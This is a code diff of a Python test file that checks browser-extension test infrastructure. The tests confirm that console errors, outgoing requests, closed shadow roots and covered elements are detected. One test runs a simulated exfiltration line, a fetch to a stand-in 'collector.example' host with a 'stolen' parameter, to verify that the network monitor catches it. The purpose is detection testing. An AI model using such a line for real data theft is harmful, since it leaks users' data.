@@ -1,4 +1,4 @@
-"""The test infrastructure itself: what it is trusted to see, it sees. Without these, "nothing happened" proves nothing."""
+"""The test infrastructure itself: what it is trusted to see, it sees. Else "nothing happened" would prove nothing."""
 
 from __future__ import annotations
 
@@ -20,32 +20,35 @@ ERRORS = {
 }
 
 
-def test_complaints_are_seen(fresh_session: Session) -> None:
-    session = fresh_session
+def test_complaints_are_seen(unwatched_session: Session) -> None:
+    session = unwatched_session
     for source, run in (("extension page", session.browser.control), ("web page", session.list(GMAIL).evaluate)):
         for kind, function in ERRORS.items():
             before = len(session.browser.complaints())
             run(function)
             text = f"seen {[*ERRORS].index(kind) + 1}"
-            until(lambda before=before, text=text: [complaint for complaint in session.browser.complaints()[before:]
-                                                    if text in complaint.text], f"{kind} of the {source}")
-    with pytest.raises(AssertionError, match="console"), watched(session):
-        session.browser.control(ERRORS["console"])
-        until(lambda: False, "nothing", 0.5) if False else None
+            until(
+                lambda before=before, text=text: [
+                    complaint for complaint in session.browser.complaints()[before:] if text in complaint.text
+                ],
+                f"{kind} of the {source}",
+            )
+    with pytest.raises(AssertionError, match="errors in a console"), watched(session):
         before = len(session.browser.complaints())
-        until(lambda: len(session.browser.complaints()) > before or True, "the error")
+        session.browser.control(ERRORS["console"])
+        until(lambda: len(session.browser.complaints()) > before, "the error")
 
 
-def test_requests_are_seen(fresh_session: Session) -> None:
-    session = fresh_session
+def test_requests_are_seen(unwatched_session: Session) -> None:
+    session = unwatched_session
     mark = session.network.mark()
     session.browser.control("() => fetch('https://collector.example/?stolen=1', {mode: 'no-cors'}).catch(() => 0)")
     until(lambda: session.network.since(mark, "collector.example"), "the extension's request")
     assert session.strays(mark)
 
 
-def test_closed_shadow_root_is_read_and_clicked(fresh_session: Session, tmp_path: Path) -> None:
-    page = fresh_session.read(GMAIL, MAIL_1).page
+def test_closed_shadow_root_is_read_and_clicked(unwatched_session: Session, tmp_path: Path) -> None:
+    page = unwatched_session.read(GMAIL, MAIL_1).page
     page.evaluate("""() => {
       const host = document.body.appendChild(document.createElement('test-host'));
       const root = host.attachShadow({mode: 'closed'});
@@ -62,8 +65,8 @@ def test_closed_shadow_root_is_read_and_clicked(fresh_session: Session, tmp_path
     assert (tmp_path / "page.png").read_bytes().startswith(b"\x89PNG")
 
 
-def test_covered_element_is_not_clicked(fresh_session: Session) -> None:
-    page = fresh_session.list(GMAIL)
+def test_covered_element_is_not_clicked(unwatched_session: Session) -> None:
+    page = unwatched_session.list(GMAIL)
     page.evaluate("() => document.body.append(Object.assign(document.createElement('dialog'), {id: 'over'}))")
     page.evaluate("() => document.querySelector('#over').showModal()")
     with pytest.raises(AssertionError, match="covered"):
